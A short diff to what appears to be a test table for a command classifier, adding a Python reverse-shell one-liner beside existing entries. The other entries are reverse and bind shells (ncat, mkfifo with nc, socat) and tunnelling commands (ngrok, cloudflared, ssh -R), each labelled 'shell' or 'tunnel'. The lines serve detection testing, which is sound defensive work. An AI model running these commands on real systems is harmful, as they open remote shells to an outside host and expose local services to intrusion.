@@ -12,6 +12,7 @@ test.each([
   ['ncat --exec /bin/bash -lvp 4444', 'shell'],
   ['mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.7 443 > f', 'shell'],
   ['socat TCP:203.0.113.7:443 EXEC:/bin/sh', 'shell'],
+  [`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)'`, 'shell'],
   ['ngrok http 3000', 'tunnel'],
   ['cloudflared tunnel --url http://localhost:3000', 'tunnel'],
   ['ssh -R 8080:localhost:3000 host.example.com', 'tunnel'],
